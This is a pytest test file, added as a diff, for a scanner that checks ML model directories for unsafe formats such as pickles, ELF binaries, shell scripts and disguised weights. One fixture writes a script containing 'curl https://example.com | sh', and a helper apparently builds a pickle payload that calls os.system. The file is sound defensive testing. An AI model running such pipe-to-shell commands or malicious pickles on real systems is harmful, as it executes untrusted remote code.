@@ -1,0 +1,115 @@
+"""The format check: what a file is from its bytes, and whether loading it can run code."""
+
+from __future__ import annotations
+
+import random
+from typing import TYPE_CHECKING
+
+from pytest_mlsupply.results import Severity, Verdict
+from tests.conftest import write_pickle_payload
+
+if TYPE_CHECKING:
+    from tests.checks.conftest import Pipeline
+
+ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56
+
+
+def test_clean_safetensors_weights_have_no_findings(pipeline: Pipeline) -> None:
+    result = pipeline.result("artifact[tiny/model.safetensors::format]")
+
+    assert result.findings == []
+    assert result.error is None
+    assert result.facts["format"] == "safetensors"
+    assert result.facts["family"] == "safetensors"
+    assert result.verdict(Severity.LOW) is Verdict.PASS
+
+
+def test_config_and_card_are_recognised_as_json_and_text(pipeline: Pipeline) -> None:
+    config = pipeline.result("artifact[tiny/config.json::format]")
+    card = pipeline.result("artifact[tiny/README.md::format]")
+
+    assert (config.facts["format"], config.findings) == ("json", [])
+    assert (card.facts["format"], card.findings) == ("text", [])
+
+
+def test_a_pickle_is_an_unsafe_format_of_high_severity(pipeline: Pipeline) -> None:
+    write_pickle_payload(pipeline.model_dir / "extra.pkl")
+
+    result = pipeline.result("artifact[tiny/extra.pkl::format]")
+
+    (finding,) = result.findings
+    assert (finding.rule, finding.severity, finding.cwe) == (
+        "MLS-FMT-001",
+        Severity.HIGH,
+        "CWE-502",
+    )
+    assert finding.category == "unsafe-format"
+    assert "os.system" in finding.evidence
+    assert "safetensors" in finding.remediation
+    assert result.facts["family"] == "pickle"
+    assert result.verdict(Severity.HIGH) is Verdict.FAIL
+    assert result.verdict(Severity.CRITICAL) is Verdict.WARN
+
+
+def test_an_elf_binary_in_a_model_directory_is_critical(pipeline: Pipeline) -> None:
+    (pipeline.model_dir / "helper").write_bytes(ELF_HEADER)
+
+    result = pipeline.result("artifact[tiny/helper::format]")
+
+    (finding,) = result.findings
+    assert (finding.rule, finding.severity, finding.cwe) == (
+        "MLS-FMT-001",
+        Severity.CRITICAL,
+        "CWE-506",
+    )
+    assert result.facts["family"] == "executable"
+    assert result.verdict(Severity.CRITICAL) is Verdict.FAIL
+
+
+def test_a_shebang_script_in_a_model_directory_is_critical(pipeline: Pipeline) -> None:
+    (pipeline.model_dir / "setup.sh").write_text("#!/bin/sh\ncurl https://example.com | sh\n")
+
+    result = pipeline.result("artifact[tiny/setup.sh::format]")
+
+    (finding,) = result.findings
+    assert (finding.rule, finding.severity) == ("MLS-FMT-001", Severity.CRITICAL)
+    assert result.facts["family"] == "script"
+
+
+def test_a_pickle_disguised_as_safetensors_is_also_an_extension_mismatch(
+    pipeline: Pipeline,
+) -> None:
+    write_pickle_payload(pipeline.model_dir / "weights.safetensors")
+
+    result = pipeline.result("artifact[tiny/weights.safetensors::format]")
+
+    rules = {f.rule: f for f in result.findings}
+    assert sorted(rules) == ["MLS-FMT-001", "MLS-FMT-002"]
+    mismatch = rules["MLS-FMT-002"]
+    assert (mismatch.severity, mismatch.cwe) == (Severity.MEDIUM, "CWE-646")
+    assert ".safetensors" in mismatch.evidence
+    assert "pickle" in mismatch.evidence
+
+
+def test_unidentifiable_bytes_are_a_low_finding_that_warns_at_the_default_threshold(
+    pipeline: Pipeline,
+) -> None:
+    (pipeline.model_dir / "blob.bin").write_bytes(random.Random(0).randbytes(4096))
+
+    result = pipeline.result("artifact[tiny/blob.bin::format]")
+
+    (finding,) = result.findings
+    assert (finding.rule, finding.severity) == ("MLS-FMT-003", Severity.LOW)
+    assert result.facts["format"] == "unknown"
+    assert result.verdict(Severity.HIGH) is Verdict.WARN
+    assert result.verdict(Severity.LOW) is Verdict.FAIL
+
+
+def test_a_dangling_symlink_is_an_error_not_a_pass(pipeline: Pipeline) -> None:
+    (pipeline.model_dir / "dangling.bin").symlink_to(pipeline.model_dir / "nowhere")
+
+    result = pipeline.result("artifact[tiny/dangling.bin::format]")
+
+    assert result.error is not None
+    assert "cannot read" in result.error
+    assert result.verdict(Severity.CRITICAL) is Verdict.ERROR
